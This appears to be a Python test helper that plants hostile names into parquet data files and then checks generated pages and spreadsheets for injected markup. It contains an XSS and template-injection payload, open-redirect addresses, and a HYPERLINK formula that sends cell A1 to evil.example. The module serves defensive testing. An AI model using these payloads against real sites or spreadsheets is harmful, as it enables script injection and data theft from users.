"""Names that are scripts, formulas and broken markup, put wherever facts and people carry text, and what they would leave behind."""

from __future__ import annotations

import html
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import polars as pl

ELSEWHERE = [
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example",
    "\\\\evil.example",
    "http:///evil.example",
    "/\t/evil.example",
    "javascript:alert(1)",
]
"""Addresses that a browser takes to another host, or runs, where a page is led back to."""

MARK = "x-evil"
"""The element and the attribute that hostile text would make of a page that takes it for markup."""
MARKUP = f'"\'><{MARK} {MARK}="1" onerror=alert(1)></textarea></title><script>alert("{MARK}")</script>{{{{ 7*7 }}}}{{% debug %}}'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\N{FULLWIDTH EQUALS SIGN}", "\N{FULLWIDTH PLUS SIGN}")
"""What a spreadsheet takes for the start of a formula."""
FORMULA = 'HYPERLINK("https://evil.example/?leak="&A1,"open")'


def hostile(place: int, about: str) -> str:
    """Make a text that is a formula to a spreadsheet, markup to a page, and one of a kind."""
    return f"{STARTS[place % len(STARTS)]}{FORMULA} {about} {place} {MARKUP}"


def poison(folder: Path) -> list[str]:
    """Put hostile text into every column of a facts folder that people or systems elsewhere name as they please; give the texts."""
    texts: list[str] = []

    def renamed(column: str, frame: pl.DataFrame) -> pl.Series:
        made = [hostile(place, column) for place in range(frame.height)]
        texts.extend(made)
        return pl.Series(column, made)

    for table, columns in (("partners", ("name", "country")), ("customers", ("name", "alias", "domain")), ("associations", ("claim_id",))):
        path = folder / f"{table}.parquet"
        frame = pl.read_parquet(path)
        frame.with_columns(renamed(column, frame) for column in columns).write_parquet(path)
    for path in (folder / "certifications.parquet", *sorted((folder / "azure_usage").glob("*.parquet"))):
        frame = pl.read_parquet(path)
        column = "person_name" if "person_name" in frame.columns else "subscription_id"
        # One entity keeps one name, as it does in files of its own.
        known = {one: hostile(place, column) for place, one in enumerate(frame[column].unique().sort().to_list())}
        texts.extend(known.values())
        frame.with_columns(pl.col(column).replace(known)).write_parquet(path)
    return texts


class Planted(HTMLParser):
    """Reads a page as a browser does and collects what hostile text planted in it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        if tag == MARK or (tag == "script" and "src" not in names):
            self.found.append(tag)
        for name, value in attrs:
            if name == MARK or name.startswith("on") or name == "style" or (value or "").strip().casefold().startswith("javascript:"):
                self.found.append(f"{tag} {name}")


def planted(page: str) -> list[str]:
    """List the elements and attributes that do not belong in a page."""
    reader = Planted()
    reader.feed(page)
    return reader.found


def shows(page: str) -> bool:
    """Say whether a page shows hostile text, so that finding nothing planted means something."""
    return MARK in html.unescape(page)


def runs(cell: Any) -> bool:
    """Say whether a spreadsheet would run a cell."""
    return isinstance(cell, str) and cell.startswith(STARTS)
